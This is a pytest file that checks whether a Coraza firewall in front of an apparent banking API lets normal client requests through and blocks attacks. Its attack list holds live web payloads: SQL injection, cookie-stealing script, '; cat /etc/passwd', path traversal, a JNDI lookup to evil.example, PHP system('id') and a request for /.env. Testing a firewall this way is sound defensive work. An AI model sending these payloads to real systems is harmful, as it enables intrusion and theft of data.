"""The firewall of traefik/waf lets the platform's clients through and refuses attacks. Run by `make test-deploy`.

Coraza decides by the directives of traefik/config/waf.yml, outside of Traefik: the plugin is a WebAssembly module that
is not part of a Go module.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Final, NamedTuple
from urllib.parse import quote, urlencode

import pytest
from ruamel.yaml import YAML

from tests.tools.deploy_tools import coraza, run_tool

ROOT: Final = Path(__file__).parents[2]
JSON: Final = "application/json"
FORM: Final = "application/x-www-form-urlencoded"
# An attack of each kind, and a password that somebody may have.
ANY_TEXT: Final = "' OR 1=1 -- ; cat /etc/passwd <script>alert(1)</script> ${jndi:ldap://x} ../../etc"
EMAIL: Final = "ada@example.com"
pytestmark = pytest.mark.usefixtures("deploy_tools")


class Sent(NamedTuple):
    """A request. `body` is text, or what JSON is made of."""

    method: str
    uri: str
    body: Any = None
    content_type: str = JSON
    headers: tuple[tuple[str, str], ...] = ()

    def line(self) -> str:
        headers = {"Host": "bank.example", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept": JSON}
        body = ""
        if self.body is not None:
            body = self.body if isinstance(self.body, str) else json.dumps(self.body)
            headers |= {"Content-Type": self.content_type, "Content-Length": str(len(body))}
        headers |= dict(self.headers)
        return json.dumps({"Method": self.method, "URI": self.uri, "Body": body, "Headers": list(headers.items())})


def document(text: str, accept: str = JSON, **variables: object) -> Sent:
    return Sent("POST", "/graphql", {"query": text, "variables": variables}, headers=(("Accept", accept),))


CLIENTS: Final = {
    "page": Sent("GET", "/", headers=(("Accept", "text/html"),)),
    "curl": Sent("GET", "/api/accounts?limit=20", headers=(("User-Agent", "curl/8.5.0"), ("Accept", "*/*"))),
    "token": Sent("GET", "/api/auth/me", headers=(("Authorization", f"Bearer eyJh.eyJz.{'A' * 86}"),)),
    "registration": Sent("POST", "/api/auth/register", {"email": EMAIL, "password": ANY_TEXT, "name": "Ada O'Neill"}),
    "login": Sent("POST", "/api/auth/login", {"email": EMAIL, "password": ANY_TEXT}),
    "login page": Sent("POST", "/oauth/login", urlencode({"email": EMAIL, "password": ANY_TEXT}), FORM),
    "authorization": Sent(
        "GET",
        "/oauth/authorize?"
        + urlencode({"response_type": "code", "redirect_uri": "https://app.example/callback", "scope": "openid"}),
    ),
    "token of OAuth": Sent(
        "POST",
        "/oauth/token",
        urlencode({"grant_type": "authorization_code", "redirect_uri": "https://app.example/callback", "code": "aB3"}),
        FORM,
    ),
    "transfer": Sent(
        "POST",
        "/api/transactions/transfer",
        {"destinationAccountNumber": "MS00123", "amount": "20.00", "description": "Rent & gas: 1/2 of May, thanks!"},
        headers=(("Idempotency-Key", "5b0c1b2a0f934b0bb0f3a3c5d9d8c111"),),
    ),
    "change": Sent("PATCH", "/api/auth/me", {"name": "Grace"}),
    "logout": Sent("DELETE", "/api/auth/logout"),
    "preflight": Sent("OPTIONS", "/graphql", headers=(("Origin", "https://app.example"),)),
    "query": document("query A($id: ID!) { account(id: $id) { select: id from: id where: id union: id } }", id="692c"),
    "introspection": document("{ __schema { types { name fields { name } } } }"),
    "subscription": document("subscription { transactionPosted { id } }", "text/event-stream"),
    "query by GET": Sent("GET", "/graphql?query=" + quote("{ me { name } }")),
    "persisted query": Sent(
        "GET", "/graphql?extensions=" + quote('{"persistedQuery":{"version":1,"sha256Hash":"' + "ab" * 32 + '"}}')
    ),
    "password in a variable": document("mutation($password: String!) { a(b: $password) { c } }", password=ANY_TEXT),
    "login by GraphQL": document("mutation($input: I!) { login(input: $input) { c } }", input={"password": ANY_TEXT}),
    "new password": document(
        "mutation($input: I!) { changePassword(input: $input) { c } }",
        input={"currentPassword": ANY_TEXT, "newPassword": ANY_TEXT},
    ),
    "webhook": Sent(
        "POST",
        "/webhooks/stripe",
        {"type": "payment_intent.succeeded", "data": {"object": {"id": "pi_1", "currency": "eur"}}},
        headers=(("Stripe-Signature", f"t=1700000000,v1={'a' * 64}"), ("User-Agent", "Stripe/1.0")),
    ),
}
_SELECT: Final = "1' UNION SELECT password FROM users--"
_SCRIPT: Final = "<script>alert(document.cookie)</script>"
ATTACKS: Final = {
    "SQL in the query": Sent("GET", "/api/accounts?id=" + quote("1' OR '1'='1")),
    "SQL in the body": Sent("POST", "/api/accounts", {"type": _SELECT}),
    "SQL in a variable": document("query A($id: ID!) { account(id: $id) { id } }", id=_SELECT),
    "script in the query": Sent("GET", "/api/accounts?q=" + quote(_SCRIPT)),
    "script in a variable": document("mutation($n: String!) { a(name: $n) { id } }", n=_SCRIPT),
    "shell": Sent("GET", "/api/accounts?q=" + quote("; cat /etc/passwd")),
    "traversal": Sent("GET", "/api/accounts?f=../../../../etc/passwd"),
    "look-up by a log": Sent("GET", "/api/accounts", headers=(("X-Api-Version", "${jndi:ldap://evil.example/a}"),)),
    "PHP": Sent("GET", "/api/accounts?x=" + quote("<?php system('id');")),
    "scanner": Sent("GET", "/api/accounts", headers=(("User-Agent", "sqlmap/1.7"),)),
    "secrets of a checkout": Sent("GET", "/.env"),
    "method": Sent("TRACE", "/api/accounts"),
    "content type": Sent("POST", "/api/accounts", "<a/>", "application/xml"),
}


def decisions(requests: dict[str, Sent]) -> dict[str, Any]:
    """The decision of the firewall on each request."""
    middleware = YAML(typ="safe").load(ROOT / "traefik/config/waf.yml")["http"]["middlewares"]["waf"]
    directives = middleware["plugin"]["coraza"]["directives"]
    lines = [json.dumps(directives), *(request.line() for request in requests.values())]
    output = run_tool(coraza(), text="\n".join(lines)).splitlines()
    return dict(zip(requests, map(json.loads, output), strict=True))


def test_requests_of_clients_pass() -> None:
    refused = {name: found for name, found in decisions(CLIENTS).items() if found["status"] != 0}
    assert refused == {}


def test_attacks_are_refused() -> None:
    found = decisions(ATTACKS)
    assert {name: decision["status"] for name, decision in found.items()} == dict.fromkeys(ATTACKS, 403)
    assert all(decision["rules"] for decision in found.values())


def test_a_body_that_is_too_large_is_refused_before_it_is_checked() -> None:
    (found,) = decisions({"large": Sent("POST", "/api/accounts", {"name": "x" * 1_000_001})}).values()
    assert found["status"] == 413
